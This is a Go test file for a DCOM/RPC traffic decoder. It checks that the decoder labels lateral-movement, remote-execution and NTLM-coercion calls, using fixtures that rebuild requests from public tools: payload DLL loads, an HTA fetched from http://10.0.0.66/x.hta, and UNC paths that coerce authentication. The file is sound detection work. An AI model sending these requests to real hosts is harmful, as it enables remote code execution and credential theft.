package rpcops

import (
	"encoding/binary"
	"testing"
	"unicode/utf16"
)

// The newer DCOM execution and coercion classes: activation requests are
// built from MS-DCOM 2.2.22 as impacket's dcomrt.py lays them out (and
// checked against tshark in TestDcomExecTshark); the method calls from
// the public tools' declarations (named at each fixture).

// typeSerialized1 wraps NDR data in a version 1 type-serialization header
// (MS-RPCE 2.2.6): common header, private header with the padded length.
func typeSerialized1(body []byte) []byte {
	for len(body)%8 != 0 {
		body = append(body, 0)
	}
	le := binary.LittleEndian
	b := []byte{1, 0x10}
	b = le.AppendUint16(b, 8)
	b = le.AppendUint32(b, 0xcccccccc)
	b = le.AppendUint32(b, uint32(len(body)))
	b = le.AppendUint32(b, 0)
	return append(b, body...)
}

// activationPropertiesIn is the OBJREF_CUSTOM an activation request
// carries: an ActivationPropertiesBlob with InstantiationInfoData (class,
// interfaces) and SecurityInfoData (server name).
func activationPropertiesIn(clsid string, server string, iids ...string) []byte {
	return activationPropertiesInSession(clsid, server, -1, iids...)
}

// activationPropertiesInSession adds SpecialPropertiesData asking for
// the given session (MS-DCOM 2.2.22.2.2), as a session moniker or
// ISpecialSystemProperties::SetSessionId does; session < 0 leaves it out.
func activationPropertiesInSession(clsid string, server string, session int, iids ...string) []byte {
	inst := newSB(false)
	inst.uuid(clsid).u32(0x14).u32(0).u32(0).u32(uint32(len(iids))).u32(0).ptr()
	inst.u32(0) // thisSize, set below
	inst.u16(5).u16(7)
	inst.u32(uint32(len(iids)))
	for _, iid := range iids {
		inst.uuid(iid)
	}
	instBytes := typeSerialized1(inst.bytes())
	binary.LittleEndian.PutUint32(instBytes[16+16+20+4:], uint32(len(instBytes)))

	sec := newSB(false)
	sec.u32(0).ptr().null() // dwAuthnFlags, pServerInfo, pdwReserved
	sec.u32(0).ptr().null().u32(0)
	sec.wstr(server)
	secBytes := typeSerialized1(sec.bytes())

	props := [][]byte{instBytes, secBytes}
	classes := []string{"000001ab-0000-0000-c000-000000000046", "000001a6-0000-0000-c000-000000000046"}
	if session >= 0 {
		sp := newSB(false)
		sp.u32(uint32(session)).u32(1).u32(0).u32(0).u32(2).uuid("00000000-0000-0000-0000-000000000000")
		sp.u32(0).u32(0x14).u32(0).u32(0).u64(0).zeros(20)
		props = append(props, typeSerialized1(sp.bytes()))
		classes = append(classes, "000001b9-0000-0000-c000-000000000046")
		// LocationInfoData too (machine name null, process, apartment,
		// context), as Windows clients send it: with four properties the
		// custom header needs no padding, which tshark 4.0 does not skip
		// (it reads the properties 4 bytes early after a padded header).
		li := newSB(false)
		li.null().u32(0).u32(0).u32(0)
		props = append(props, typeSerialized1(li.bytes()))
		classes = append(classes, "000001a4-0000-0000-c000-000000000046")
	}
	hdr := func(total, hsize uint32) []byte {
		h := newSB(false)
		h.u32(total).u32(hsize).u32(0).u32(2).u32(uint32(len(props))).uuid("00000000-0000-0000-0000-000000000000")
		h.ptr().ptr().null()
		h.u32(uint32(len(props)))
		for _, c := range classes {
			h.uuid(c)
		}
		h.u32(uint32(len(props)))
		for _, p := range props {
			h.u32(uint32(len(p)))
		}
		return typeSerialized1(h.bytes())
	}
	hsize := uint32(len(hdr(0, 0)))
	total := hsize
	for _, p := range props {
		total += uint32(len(p))
	}
	body := hdr(total, hsize)
	for _, p := range props {
		body = append(body, p...)
	}
	le := binary.LittleEndian
	blob := le.AppendUint32(nil, uint32(len(body)))
	blob = le.AppendUint32(blob, 0)
	blob = append(blob, body...)
	return objrefCustom(mustUUID("000001a2-0000-0000-c000-000000000046"), mustUUID("00000338-0000-0000-c000-000000000046"), blob)
}

// remoteCreateInstance writes ISystemActivator::RemoteCreateInstance's
// request: ORPCTHIS, pUnkOuter (null), pActProperties.
func remoteCreateInstance(clsid string, iids ...string) func(s *sb) {
	return func(s *sb) {
		s.orpcThis().null().mip(activationPropertiesIn(clsid, "10.0.0.5", iids...))
	}
}

const iidIDispatch = "00020400-0000-0000-c000-000000000046"

func TestDcomExecActivation(t *testing.T) {
	lateral := func(name string) want {
		return want{op: "RemoteCreateInstance", target: name, technique: "T1021.003", phase: PhaseLateral,
			fields: map[string]string{"server": "10.0.0.5"}}
	}
	var fs []fixture
	for _, c := range []struct {
		clsid, iid string
		w          want
	}{
		// DCOM Upload & Execute: CoCreateInstanceEx(CLSID_MsiServer, IID_IMsiServer).
		{"000c101c-0000-0000-c000-000000000046", "000c101c-0000-0000-c000-000000000046", lateral("MsiServer")},
		// BitlockMove: CoCreateInstanceEx(ab93b6f1-…, IBDEUILauncher).
		{"ab93b6f1-be76-4185-a488-a9001b105b94", "8961f0a0-ff62-403b-91b4-7b9280241ceb", lateral("BDEUILauncher")},
		{"8cec58ae-07a1-11d9-b15e-000d56bfe6ee", "8cec592c-07a1-11d9-b15e-000d56bfe6ee", lateral("HxHelpPaneServer")},
		{"8cec58e7-07a1-11d9-b15e-000d56bfe6ee", "8cec595b-07a1-11d9-b15e-000d56bfe6ee", lateral("HxInteractiveUser")},
		{"3050f4d8-98b5-11cf-bb82-00aa00bdce0b", "00000000-0000-0000-c000-000000000046", lateral("htafile (mshta)")},
		// RemoteMonologue: CoCreateInstanceEx(CLSID, IID_IDispatch); the
		// activation alone is not the coercion.
		{"03837546-098b-11d8-9414-505054503030", iidIDispatch, want{op: "RemoteCreateInstance", target: "ServerDataCollectorSet",
			fields: map[string]string{"known abuse": "RemoteMonologue NTLM coercion (T1187) once its AppID runs as the interactive user"}}},
		{"2c941fc5-975b-59be-a960-9a2a262853a5", iidIDispatch, want{op: "RemoteCreateInstance", target: "FileSystemImage (IMAPI2FS)"}},
		{"4cb43d7f-7eee-4906-8698-60da1c38f2fe", iidIDispatch, want{op: "RemoteCreateInstance", target: "UpdateSession"}},
		// ForsHops: CoCreateInstanceEx(WaaSRemediationAgent, IID_IDispatch).
		{"72566e27-1abb-4eb3-b4f0-eb431cb1cb32", iidIDispatch, lateral("WaaSRemediationAgent")},
	} {
		c.w.fields = withField(c.w.fields, "interface", iidLabel(mustUUID(c.iid)))
		fs = append(fs, fixture{name: c.w.target, iface: sysActivatorUUID, opnum: 4,
			req: remoteCreateInstance(c.clsid, c.iid), want: c.w})
	}
	// DCOMRunAs: the class asked for in session 2 (its session moniker).
	fs = append(fs, fixture{name: "PhotoAcqHWEventHandler in session 2", iface: sysActivatorUUID, opnum: 4,
		req: func(s *sb) {
			s.orpcThis().null().mip(activationPropertiesInSession("00f2b433-44e4-4d88-b2b0-2698a0a91dba", "10.0.0.5", 2,
				"00000000-0000-0000-c000-000000000046"))
		},
		want: want{op: "RemoteCreateInstance", target: "PhotoAcqHWEventHandler", technique: "T1021.003", phase: PhaseLateral,
			fields: map[string]string{"session": "2 (cross-session activation)", "server": "10.0.0.5"}}})
	runNDRFixtures(t, fs)
}

func withField(m map[string]string, k, v string) map[string]string {
	if m == nil {
		m = map[string]string{}
	}
	m[k] = v
	return m
}

// runNDRFixtures runs DCOM fixtures in NDR only: Windows negotiates NDR64
// for no DCOM interface (the activation blobs are type-serialized NDR).
func runNDRFixtures(t *testing.T, fs []fixture) {
	t.Helper()
	for _, f := range fs {
		t.Run(f.name, func(t *testing.T) { check(t, Decode(f.call(false)), f.want) })
	}
}

// msiCustomActionFixtures follow the IMsiCustomAction vtable of the DCOM
// Upload & Execute source (its MsiInterfaces.h); the strings as [ref]
// (MIDL's default for a top-level pointer) and, for the path of
// LoadEmbeddedDLL, as [unique] too.
func dcomExecFixtures() []fixture {
	gac := `C:\Windows\Microsoft.NET\assembly\GAC_MSIL\payload\v4.0_1.0.0.0__136e5fbf23bb401e\payload.dll`
	exec := func(op, target, command string, fields map[string]string) want {
		return want{op: op, target: target, command: command, technique: "T1021.003", phase: PhaseExecution, fields: fields}
	}
	upload := func(op, target string, fields map[string]string) want {
		return want{op: op, target: target, technique: "T1105", phase: PhaseLateral, fields: fields}
	}
	return []fixture{
		{name: "LoadEmbeddedDLL ref", iface: msiCustomActionUUID, opnum: 33,
			req:  func(s *sb) { s.orpcThis().wstr(gac).u32(0) },
			want: exec("LoadEmbeddedDLL", gac, gac, map[string]string{"dll": gac})},
		{name: "LoadEmbeddedDLL unique", iface: msiCustomActionUUID, opnum: 33,
			req:  func(s *sb) { s.orpcThis().wstrp(gac).u32(0) },
			want: exec("LoadEmbeddedDLL", gac, gac, nil)},
		{name: "URTAddAssemblyInstallComponent", iface: msiCustomActionUUID, opnum: 21,
			req: func(s *sb) {
				s.orpcThis().wstr("{13333337-1337-1337-1337-133333333337}").wstr("{13333338-1338-1338-1338-133333333338}").wstr("payload")
			},
			want: upload("URTAddAssemblyInstallComponent", "payload", map[string]string{"assembly": "payload"})},
		{name: "URTCreateAssemblyFileStream", iface: msiCustomActionUUID, opnum: 27,
			req:  func(s *sb) { s.orpcThis().wstr(`C:\tools\payload.dll`).u32(1) },
			want: upload("URTCreateAssemblyFileStream", `C:\tools\payload.dll`, map[string]string{"file": `C:\tools\payload.dll`})},
		{name: "URTWriteAssemblyBits", iface: msiCustomActionUUID, opnum: 28,
			req:  func(s *sb) { s.orpcThis().size(6).raw([]byte("MZ\x90\x00\x03\x00")).u32(6) },
			want: upload("URTWriteAssemblyBits", "", map[string]string{"bytes": "6", "content": "PE image (MZ)"})},
		{name: "CallInitDLL", iface: msiCustomActionUUID, opnum: 34,
			req: func(s *sb) {
				m := "Hello from DCOM Upload & Execute"
				s.orpcThis().u32(uint32(len(m))).ptr().size(len(m)).raw([]byte(m))
			},
			want: exec("CallInitDLL", "", "", map[string]string{"argument": "Hello from DCOM Upload & Execute"})},
		{name: "PrepareDLLCustomAction", iface: msiCustomActionUUID, opnum: 3,
			req: func(s *sb) {
				s.orpcThis().wstr("CA1").wstr(`C:\Windows\Installer\MSI1.tmp`).wstr("Run").u32(0).u8(0).u8(0)
			},
			want: exec("PrepareDLLCustomAction", `C:\Windows\Installer\MSI1.tmp`, `C:\Windows\Installer\MSI1.tmp Run`,
				map[string]string{"action": "CA1", "entry point": "Run"})},
		// SQLInstallDriverEx(cDrvLen, szDriver, szPathIn, ...): the ODBC
		// driver variant.
		{name: "SQLInstallDriverEx", iface: msiCustomActionUUID, opnum: 9,
			req: func(s *sb) {
				s.orpcThis().u32(40).wstr("pivot\x00Driver=pivot.dll\x00").wstr(`C:\Windows\Temp`)
			},
			want: want{op: "SQLInstallDriverEx", target: `C:\Windows\Temp`, technique: "T1021.003", phase: PhaseExecution,
				fields: map[string]string{"driver": "pivot", "path": `C:\Windows\Temp`}}},
		// IMsiServer::CreateCustomActionServer(icac64Impersonated, 4, ...)
		// as DCOM Upload & Execute calls it.
		{name: "CreateCustomActionServer", iface: msiServerCLS, opnum: 15,
			req: func(s *sb) { s.orpcThis().enum(1).u32(4) },
			want: want{op: "CreateCustomActionServer", technique: "T1021.003", phase: PhaseLateral,
				fields: map[string]string{"context": "64-bit impersonated", "client pid": "4"}}},
		// BitlockMove: server.BDEUIProcessStart(4, 0, path).
		{name: "BDEUIProcessStart", iface: bdeUILauncherUUID, opnum: 7,
			req:  func(s *sb) { s.orpcThis().u32(4).u32(0).bstr("somearguments as") },
			want: exec("BDEUIProcessStart", "", "somearguments as", map[string]string{"application": "4", "start mode": "0"})},
		{name: "IHxHelpPaneServer Execute", iface: hxHelpPaneServerUUID, opnum: 6,
			req: func(s *sb) { s.orpcThis().wstr("file:///C:/WINDOWS/SYSTEM32/CALC.EXE") },
			want: exec("Execute", "file:///C:/WINDOWS/SYSTEM32/CALC.EXE", "file:///C:/WINDOWS/SYSTEM32/CALC.EXE",
				map[string]string{"url": "file:///C:/WINDOWS/SYSTEM32/CALC.EXE"})},
		{name: "IHxHelpPaneServer DisplayTask", iface: hxHelpPaneServerUUID, opnum: 3,
			req:  func(s *sb) { s.orpcThis().wstr("mshelp://windows/?id=1") },
			want: want{op: "DisplayTask", target: "mshelp://windows/?id=1"}},
		{name: "IHxInteractiveUser Execute", iface: hxInteractiveUserUUID, opnum: 3,
			req:  func(s *sb) { s.orpcThis().wstrp(`file:///C:/Users/Public/x.exe`) },
			want: exec("Execute", `file:///C:/Users/Public/x.exe`, `file:///C:/Users/Public/x.exe`, nil)},
		// IPersistMoniker::Load(fFullyAvailable, pimkName, pibc, grfMode)
		// with a URL moniker marshaled by value.
		{name: "IPersistMoniker Load (htafile)", iface: persistMonikerUUID, opnum: 5,
			req: func(s *sb) {
				url := utf16le("http://10.0.0.66/x.hta\x00")
				data := binary.LittleEndian.AppendUint32(nil, uint32(len(url)))
				s.orpcThis().u32(1).mip(objrefCustom(mustUUID("0000000f-0000-0000-c000-000000000046"),
					mustUUID("79eac9e0-baf9-11ce-8c82-00aa004ba90b"), append(data, url...))).null().u32(0)
			},
			want: exec("Load", "http://10.0.0.66/x.hta", "http://10.0.0.66/x.hta",
				map[string]string{"moniker": "URL moniker {79eac9e0-baf9-11ce-8c82-00aa004ba90b}"})},
	}
}

func TestDcomExecMethods(t *testing.T) { runNDRFixtures(t, dcomExecFixtures()) }

// TestRemoteMonologue follows the IDispatch calls RemoteMonologue.py makes
// once the class is activated: the UNC path it hands the object is the
// coercion, whatever member carries it.
func TestRemoteMonologue(t *testing.T) {
	unc := `\\10.0.0.66\abcd\efgh.txt`
	variantBSTR := func(s *sb, v string) {
		u := utf16.Encode([]rune(v))
		s.align(8).u32(6).u32(0).u16(8).u16(0).u16(0).u16(0).u32(8).ptr()
		s.size(len(u)).u32(uint32(2 * len(u))).u32(uint32(len(u)))
		for _, c := range u {
			s.u16(c)
		}
	}
	// invoke(dispid, flags, named, args in call order)
	invoke := func(dispid, flags uint32, named []int32, args ...string) func(s *sb) {
		return func(s *sb) {
			s.orpcThis().u32(dispid).uuid("00000000-0000-0000-0000-000000000000").u32(0x409).u32(flags)
			s.alignP().ptr()
			if len(named) > 0 {
				s.ptr()
			} else {
				s.null()
			}
			s.u32(uint32(len(args))).u32(uint32(len(named)))
			s.size(len(args))
			for range args {
				s.ptr()
			}
			for i := len(args) - 1; i >= 0; i-- { // DISPPARAMS holds the last first
				variantBSTR(s, args[i])
			}
			if len(named) > 0 {
				s.size(len(named))
				for _, n := range named {
					s.u32(uint32(n))
				}
			}
			s.u32(0).size(0).size(0)
		}
	}
	getIDs := func(name string, id uint32) (func(*sb), func(*sb)) {
		return func(s *sb) {
				s.orpcThis().uuid("00000000-0000-0000-0000-000000000000").size(1).ptr().wstr(name).u32(1).u32(0x409)
			}, func(s *sb) {
				s.orpcThat().size(1).u32(id).status(0)
			}
	}
	cases := []struct {
		name, class, member string
		id, flags           uint32
		named               []int32
		args                []string
	}{
		// DataManager.Extract("XFORCERED" in rgvarg[0], the path in rgvarg[1]).
		{"ServerDataCollectorSet", "03837546-098b-11d8-9414-505054503030", "extract", 0x60020015, 1, nil, []string{unc, "XFORCERED"}},
		// FileSystemImage.WorkingDirectory = path (DISPATCH_PROPERTYPUT,
		// DISPID_PROPERTYPUT named).
		{"FileSystemImage", "2c941fc5-975b-59be-a960-9a2a262853a5", "workingdirectory", 0x60020006, 4, []int32{-3}, []string{unc}},
		// UpdateServiceManager.AddScanPackageService("XFORCERED", path).
		{"UpdateSession", "4cb43d7f-7eee-4906-8698-60da1c38f2fe", "AddScanPackageService", 0x60020009, 1, nil, []string{"XFORCERED", unc}},
	}
	for _, c := range cases {
		t.Run(c.name, func(t *testing.T) {
			s := Session{Shared: NewShared()}
			obj := mustUUID("0000c00b-19e0-1884-6555-3ca62fdb2bba")
			s.Shared.add(obj, mustUUID(c.class), dispatchUUID)
			req, resp := getIDs(c.member, c.id)
			call := fixture{iface: dispatchUUID, opnum: 5, req: req, resp: resp}.call(false)
			call.Object = obj
			s.Decode(call)
			call = fixture{iface: dispatchUUID, opnum: 6, req: invoke(c.id, c.flags, c.named, c.args...)}.call(false)
			call.Object = obj
			d := s.Decode(call)
			check(t, d, want{op: "Invoke " + c.member, target: unc, technique: TechCoerce, phase: PhaseCredAccess,
				fields: map[string]string{"coerced to": "10.0.0.66", "path": unc}})
		})
	}
	// The same member with a local path is no coercion.
	s := Session{Shared: NewShared()}
	obj := mustUUID("0000c00b-19e0-1884-6555-3ca62fdb2bbb")
	s.Shared.add(obj, mustUUID("2c941fc5-975b-59be-a960-9a2a262853a5"), dispatchUUID)
	call := fixture{iface: dispatchUUID, opnum: 6, req: invoke(0x60020006, 4, []int32{-3}, `C:\Temp`)}.call(false)
	call.Object = obj
	check(t, s.Decode(call), want{op: "Invoke"})
}

// objrefStandard is an OBJREF_STANDARD for ipid of interface iid, without
// bindings.
func objrefStandard(iid, ipid [16]byte) []byte {
	le := binary.LittleEndian
	b := le.AppendUint32(nil, objrefSignature)
	b = le.AppendUint32(b, 1)
	b = append(b, iid[:]...)
	b = le.AppendUint32(b, 0)            // STDOBJREF flags
	b = le.AppendUint32(b, 5)            // cPublicRefs
	b = le.AppendUint64(b, 0x1122334455) // OXID
	b = le.AppendUint64(b, 0x66778899aa) // OID
	b = append(b, ipid[:]...)
	return le.AppendUint32(b, 0) // empty DUALSTRINGARRAY
}

// TestForsHopsTrappedObject follows ForsHops' walk (after Forshaw): the
// WaaSRemediation object's IDispatch::GetTypeInfo, GetContainingTypeLib,
// GetTypeInfoOfGuid (StdFont), then ITypeInfo::CreateInstance inside the
// service. Every returned object keeps the class, so the creation is named
// and is the execution step.
func TestForsHopsTrappedObject(t *testing.T) {
	s := Session{Shared: NewShared()}
	disp := mustUUID("0000a001-0000-0000-0000-000000000001")
	s.Shared.add(disp, mustUUID("72566e27-1abb-4eb3-b4f0-eb431cb1cb32"), dispatchUUID)
	typeInfoIID, typeLibIID := mustUUID("00020401-0000-0000-c000-000000000046"), mustUUID("00020402-0000-0000-c000-000000000046")
	ti, tl, font := mustUUID("0000a002-0000-0000-0000-000000000002"), mustUUID("0000a003-0000-0000-0000-000000000003"),
		mustUUID("0000a004-0000-0000-0000-000000000004")
	steps := []struct {
		iface, obj [16]byte
		opnum      uint16
		req, resp  func(*sb)
		w          want
	}{
		{dispatchUUID, disp, 4, func(s *sb) { s.orpcThis().u32(0).u32(0x409) },
			func(s *sb) { s.orpcThat().mip(objrefStandard(typeInfoIID, ti)).status(0) },
			want{op: "GetTypeInfo", target: "WaaSRemediationAgent", noise: true}},
		{typeInfoIID, ti, 18, func(s *sb) { s.orpcThis() },
			func(s *sb) { s.orpcThat().mip(objrefStandard(typeLibIID, tl)).u32(0).status(0) },
			want{op: "GetContainingTypeLib", target: "WaaSRemediationAgent", noise: true}},
		{typeLibIID, tl, 6, func(s *sb) { s.orpcThis().uuid("0be35203-8f91-11ce-9de3-00aa004bb851") },
			func(s *sb) { s.orpcThat().mip(objrefStandard(typeInfoIID, font)).status(0) },
			want{op: "GetTypeInfoOfGuid", target: "WaaSRemediationAgent", noise: true}},
		{typeInfoIID, font, 16, func(s *sb) { s.orpcThis().uuid("00000000-0000-0000-c000-000000000046") }, nil,
			want{op: "CreateInstance", target: "WaaSRemediationAgent", technique: "T1021.003", phase: PhaseExecution,
				fields: map[string]string{"interface": "IUnknown {00000000-0000-0000-c000-000000000046}"}}},
	}
	for i, st := range steps {
		c := fixture{iface: st.iface, opnum: st.opnum, req: st.req, resp: st.resp}.call(false)
		c.Object = st.obj
		d := s.Decode(c)
		check(t, d, st.w)
		if t.Failed() {
			t.Fatalf("step %d", i)
		}
	}
	// The same creation on an object of no known class is plumbing.
	c := fixture{iface: typeInfoIID, opnum: 16, req: func(s *sb) { s.orpcThis().uuid("00000000-0000-0000-c000-000000000046") }}.call(false)
	check(t, Decode(c), want{op: "CreateInstance"})
}

// TestDcomExecMembers: automation members that run code, as CheeseDCOM
// calls them (Visio Document.ExecuteLine, ScriptControl.AddCode).
func TestDcomExecMembers(t *testing.T) {
	for _, m := range []string{"ExecuteLine", "AddCode", "ExecuteStatement", "ActivateMicrosoftApp"} {
		c := fixture{iface: dispatchUUID, opnum: 5, req: func(s *sb) {
			s.orpcThis().uuid("00000000-0000-0000-0000-000000000000").size(1).ptr().wstr(m).u32(1).u32(0x409)
		}}.call(false)
		check(t, Decode(c), want{op: "GetIDsOfNames " + m, technique: "T1021.003", phase: PhaseExecution})
	}
}

// TestMsiUploadExecChain: CreateCustomActionServer's answer carries the
// IMsiCustomAction's interface pointer; the upload and load calls that
// follow on it, their bind not captured, are named from its IPID and
// keep the MsiServer class.
func TestMsiUploadExecChain(t *testing.T) {
	s := Session{Shared: NewShared()}
	server := mustUUID("0000c001-0000-0000-0000-000000000001")
	action := mustUUID("0000c002-0000-0000-0000-000000000002")
	s.Shared.add(server, msiServerCLS, msiServerCLS)
	c := fixture{iface: msiServerCLS, opnum: 15,
		req: func(s *sb) { s.orpcThis().enum(1).u32(4) },
		resp: func(s *sb) {
			// [out] cookie (size_is(*cbCookie)), cbCookie, the
			// IMsiCustomAction, the server's pid.
			s.orpcThat().ptr().size(16).zeros(16).u32(16)
			s.mip(objrefStandard(msiCustomActionUUID, action)).u32(4242).status(0)
		}}.call(false)
	c.Object = server
	check(t, s.Decode(c), want{op: "CreateCustomActionServer", target: "MsiServer", technique: "T1021.003", phase: PhaseLateral,
		fields: map[string]string{"object": "IMsiCustomAction IPID {0000c002-0000-0000-0000-000000000002}"}})
	dll := `C:\Windows\Microsoft.NET\assembly\GAC_MSIL\p\v4.0_1.0.0.0__0\p.dll`
	c = fixture{iface: msiCustomActionUUID, opnum: 33, req: func(s *sb) { s.orpcThis().wstr(dll).u32(0) }}.call(false)
	c.Interface, c.Object = [16]byte{}, action
	d := s.Decode(c)
	check(t, d, want{iface: "IMsiCustomAction", op: "LoadEmbeddedDLL", target: dll, command: dll,
		technique: "T1021.003", phase: PhaseExecution})
	if cls, _, _ := s.Shared.Object(action); cls != msiServerCLS {
		t.Errorf("the custom action's class is %s", UUIDString(cls))
	}
}
